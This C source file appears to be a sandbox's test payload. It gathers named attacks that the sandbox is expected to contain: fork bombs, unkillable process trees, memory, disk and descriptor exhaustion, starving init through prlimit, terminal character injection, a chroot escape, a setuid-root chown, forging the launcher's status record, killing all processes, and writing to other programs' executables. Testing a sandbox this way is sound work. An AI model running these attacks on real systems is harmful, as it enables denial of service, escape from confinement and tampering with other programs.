/* Attacks that a shell cannot make. Runs as the payload: attack NAME [NUMBER [hold]]. Prints what
 * it got, where that is the point, and never cleans up: that is for the sandbox to do. With "hold" it
 * stays there with what it got. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define TREE 20
#define MANY 100000

static void ignore_signals(void)
{
	for (int number = 1; number <= 64; number++) {
		unsigned long action[4] = { 1 /* SIG_IGN */, 0, 0, 0 };
		syscall(SYS_rt_sigaction, number, action, NULL, 8);
	}
}

static void wait_for_ever(void)
{
	for (;;)
		pause();
}

static int say(const char *text)
{
	return write(1, text, strlen(text)) < 0;
}

/* Nothing but SIGKILL ends these: no session, no signal, no parent's death in common. */
static int tree(int unused)
{
	(void)unused;
	ignore_signals();
	for (int i = 0; i < TREE; i++)
		if (fork() == 0) {
			setsid();
			prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
			if (fork() == 0)
				wait_for_ever();
			_exit(0);
		}
	prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
	say("ready\n");
	wait_for_ever();
	return 0;
}

static int leave_daemon(int code)
{
	if (fork() == 0) {
		ignore_signals();
		setsid();
		if (fork() == 0)
			wait_for_ever();
		wait_for_ever();
	}
	return code;
}

static int stop_all(int unused)
{
	(void)unused;
	for (int i = 0; i < 4; i++)
		if (fork() == 0) {
			raise(SIGSTOP);
			wait_for_ever();
		}
	say("ready\n");
	raise(SIGSTOP);
	wait_for_ever();
	return 0;
}

static int fork_bomb(int unused)
{
	int made = 0;
	(void)unused;
	while (made < MANY) {
		pid_t pid = fork();
		if (pid == 0)
			wait_for_ever();
		if (pid < 0)
			break;
		made++;
	}
	printf("%d\n", made);
	return 0;
}

/* The payload itself in a ptrace stop, traced by its child. */
static int traced(int unused)
{
	(void)unused;
	ignore_signals();
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
	pid_t payload = getpid();
	if (fork() == 0) {
		if (ptrace(PTRACE_SEIZE, payload, NULL, NULL) < 0 ||
		    ptrace(PTRACE_INTERRUPT, payload, NULL, NULL) < 0 ||
		    waitpid(payload, NULL, __WALL) != payload)
			_exit(1);
		say("ready\n");
		wait_for_ever();
	}
	wait_for_ever();
	return 0;
}

/* vfork(2): the parent takes no signal but SIGKILL until the child is gone. */
static int in_vfork(int unused)
{
	(void)unused;
	say("ready\n");
	if (vfork() == 0)
		wait_for_ever();
	return 0;
}

/* Each block is written to, so that it is memory and not a promise. */
static int take_memory(int most)
{
	int made = 0;
	for (; made < most; made++) {
		char *block = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (block == MAP_FAILED)
			break;
		memset(block, 'x', 1 << 20);
	}
	printf("%d\n", made);
	return 0;
}

/* Children that ended and that nobody waits for, until no more can be made. */
static int keep_zombies(int unused)
{
	int made = 0;
	(void)unused;
	for (; made < MANY; made++) {
		pid_t pid = fork();
		if (pid == 0)
			_exit(0);
		if (pid < 0)
			break;
	}
	printf("%d\n", made);
	return 0;
}

static int leave_zombies(int count)
{
	for (int i = 0; i < count; i++) {
		pid_t pid = fork();
		if (pid < 0) {
			printf("failed after %d\n", i);
			return 1;
		}
		if (pid == 0) { /* the grandchild is left to the init */
			pid_t grandchild = fork();
			_exit(grandchild < 0);
		}
		int status = 0;
		waitpid(pid, &status, 0);
		if (status) {
			printf("failed at %d\n", i);
			return 1;
		}
	}
	return 0;
}

static int count_opens(const char *path)
{
	int made = 0;
	while (made < MANY && open(path, O_RDWR | O_NOCTTY | O_CLOEXEC) >= 0)
		made++;
	printf("%d %s\n", made, strerror(errno));
	return 0;
}

static int flood_descriptors(int unused)
{
	(void)unused;
	return count_opens("/dev/null");
}

static int flood_terminals(int unused)
{
	struct rlimit most;
	(void)unused;
	getrlimit(RLIMIT_NOFILE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_NOFILE, &most);
	return count_opens("/dev/ptmx");
}

/* Descriptors in messages that nobody reads: they count for the user, not for a process. */
static int flood_flight(int unused)
{
	struct rlimit most;
	long made = 0;
	int ends[2];
	(void)unused;
	getrlimit(RLIMIT_NOFILE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_NOFILE, &most);
	union {
		char bytes[CMSG_SPACE(100 * sizeof(int))];
		struct cmsghdr header;
	} rights = { .bytes = { 0 } };
	rights.header.cmsg_level = SOL_SOCKET;
	rights.header.cmsg_type = SCM_RIGHTS;
	rights.header.cmsg_len = CMSG_LEN(100 * sizeof(int)); /* of standard input */
	struct iovec one = { "x", 1 };
	struct msghdr message = { .msg_iov = &one,
				  .msg_iovlen = 1,
				  .msg_control = rights.bytes,
				  .msg_controllen = sizeof(rights.bytes) };
	while (made < MANY && socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0) {
		while (made < MANY && sendmsg(ends[0], &message, MSG_DONTWAIT) > 0)
			made += 100;
		if (errno == ETOOMANYREFS)
			break;
	}
	printf("%ld\n", made);
	return 0;
}

static int fill_disk(int unused)
{
	static char block[1 << 20];
	long made = 0;
	(void)unused;
	memset(block, 'x', sizeof(block));
	static const char *const files[] = { "/tmp/f", "/run/f", "/dev/shm/f" };
	for (size_t i = 0; i < 3; i++) {
		int fd = open(files[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		while (fd >= 0 && made < MANY && write(fd, block, sizeof(block)) > 0)
			made++;
	}
	printf("%ld\n", made);
	return 0;
}

static int fill_inodes(int unused)
{
	int made = 0;
	char path[64];
	(void)unused;
	for (; made < MANY; made++) {
		snprintf(path, sizeof(path), "/tmp/%d", made);
		if (mkdir(path, 0700) < 0)
			break;
	}
	printf("%d\n", made);
	return 0;
}

static int die_by(int number)
{
	unsigned long action[4] = { 0, 0, 0, 0 };
	syscall(SYS_rt_sigaction, number, action, NULL, 8);
	kill(getpid(), number);
	return 0;
}

/* The init may have the payload's user id, which is all that prlimit(2) asks for. */
static int starve_init(int unused)
{
	static const int names[] = { RLIMIT_NOFILE, RLIMIT_CPU, RLIMIT_AS, RLIMIT_SIGPENDING,
				     RLIMIT_DATA, RLIMIT_STACK };
	struct rlimit none = { 0, 0 };
	(void)unused;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		syscall(SYS_prlimit64, 1, names[i], &none, NULL);
	setpriority(PRIO_PROCESS, 1, 19);
	for (int i = 0; i < 200; i++)
		if (fork() == 0)
			_exit(0);
	return 7;
}

/* Processes of many user ids, as far as the limit of all together lets them be. */
static int fork_as_many_users(int users)
{
	int made = 0, pipe_ends[2], count;
	if (pipe(pipe_ends) < 0)
		return 9;
	for (int user = 1; user <= users; user++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			if (setgid((gid_t)user) < 0 || setuid((uid_t)user) < 0)
				_exit(8);
			for (count = 1; count < MANY; count++) {
				pid_t more = fork();
				if (more == 0)
					wait_for_ever();
				if (more < 0)
					break;
			}
			if (write(pipe_ends[1], &count, sizeof(count)) < 0)
				_exit(7);
			wait_for_ever();
		}
		if (read(pipe_ends[0], &count, sizeof(count)) != sizeof(count))
			return 6;
		made += count;
	}
	printf("%d\n", made);
	return 0;
}

/* TIOCSTI and TIOCLINUX, with and without a bit that the kernel does not look at. The errors. */
static int push_characters(int unused)
{
	static const unsigned long requests[] = { 0x5412, 0x5412 | 1UL << 32, 0x541c,
						  0x541c | 1UL << 40 };
	(void)unused;
	for (size_t i = 0; i < 4; i++) {
		long result = syscall(SYS_ioctl, 0, requests[i], i < 2 ? "pushed" : "\3");
		printf("%d ", result < 0 ? errno : 0);
	}
	return 0;
}

/* The way out of a chroot that user 0 of its namespace knows: prints what "/" has then. */
static int leave_chroot(int unused)
{
	(void)unused;
	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") < 0)
		return errno;
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			return 9;
	if (chroot(".") < 0)
		return errno;
	execl("/probe", "probe", "--list", "/", (char *)NULL);
	return 8;
}

/* /srv/probe for another user, with his id and his group's. */
static int give_away(int user)
{
	return chown("/srv/probe", (uid_t)user, (gid_t)user) < 0 || chmod("/srv/probe", 06755) < 0;
}

/* What the caller's other end would feel if a file description were shared. */
static int spoil_streams(int unused)
{
	(void)unused;
	for (int fd = 0; fd < 3; fd++) {
		fcntl(fd, F_SETFL, O_NONBLOCK | O_DIRECT | O_APPEND | O_ASYNC);
		fcntl(fd, F_SETPIPE_SZ, 4096);
		fcntl(fd, F_SETOWN, 1);
	}
	return say("spoiled\n");
}

/* A record as the launcher sends it, on every descriptor there is: exit code 0, all well. */
static int forge_status(int code)
{
	char record[512] = "SBXE\7\0\10";
	for (int fd = 0; fd < 1024; fd++)
		if (fd != 1 && write(fd, record, sizeof(record)) < 0)
			continue;
	return code;
}

static int claim_session(int unused)
{
	(void)unused;
	kill(0, SIGKILL);
	return 1;
}

static int signal_everybody(int unused)
{
	(void)unused;
	for (int number = 1; number <= 64; number++)
		if (number != SIGKILL)
			kill(-1, number);
	for (int pid = 1; pid < 70000; pid++)
		if (pid != getpid())
			kill(pid, SIGKILL);
	return say("done\n");
}

static int same_file(const struct stat *one, const struct stat *two)
{
	return one->st_dev == two->st_dev && one->st_ino == two->st_ino;
}

/* Take hold of every other program through its process, for `ms` milliseconds, and try to write
 * to it, directly and through the descriptor once its process may have ended. */
static int take_programs(int ms)
{
	static int held[MANY];
	int opened = 0, written = 0;
	char path[64];
	struct stat own, other;
	struct timespec now, begin;
	if (access("/out", W_OK) == 0 && !freopen("/out/result", "w", stdout))
		return 9;
	stat("/proc/self/exe", &own);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		for (int pid = 1; pid < 64; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &other) < 0 || same_file(&own, &other) || opened >= MANY)
				close(fd);
			else
				held[opened++] = fd;
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0)
				written += write(fd, "evil", 4) > 0;
			close(fd);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - begin.tv_sec) * 1000 + (now.tv_nsec - begin.tv_nsec) / 1000000 < ms);
	for (int i = 0; i < opened; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		written += fd >= 0 && write(fd, "evil", 4) > 0;
	}
	printf("opened %d of others, wrote to %d\n", opened, written);
	return 0;
}

static const struct {
	const char *name;
	int (*run)(int);
} attacks[] = {
	{ "tree", tree },
	{ "daemon", leave_daemon },
	{ "stop", stop_all },
	{ "forks", fork_bomb },
	{ "traced", traced },
	{ "vfork", in_vfork },
	{ "memory", take_memory },
	{ "undead", keep_zombies },
	{ "zombies", leave_zombies },
	{ "descriptors", flood_descriptors },
	{ "terminals", flood_terminals },
	{ "flight", flood_flight },
	{ "disk", fill_disk },
	{ "inodes", fill_inodes },
	{ "signal", die_by },
	{ "init-limits", starve_init },
	{ "users", fork_as_many_users },
	{ "push", push_characters },
	{ "chroot", leave_chroot },
	{ "give", give_away },
	{ "streams", spoil_streams },
	{ "forge", forge_status },
	{ "group", claim_session },
	{ "everybody", signal_everybody },
	{ "exes", take_programs },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(attacks[i].name, argv[1]) == 0) {
			int code = attacks[i].run(argc > 2 ? atoi(argv[2]) : 0);
			fflush(stdout);
			if (argc > 3 && strcmp(argv[3], "hold") == 0)
				wait_for_ever();
			return code;
		}
	fprintf(stderr, "no such attack\n");
	return 99;
}
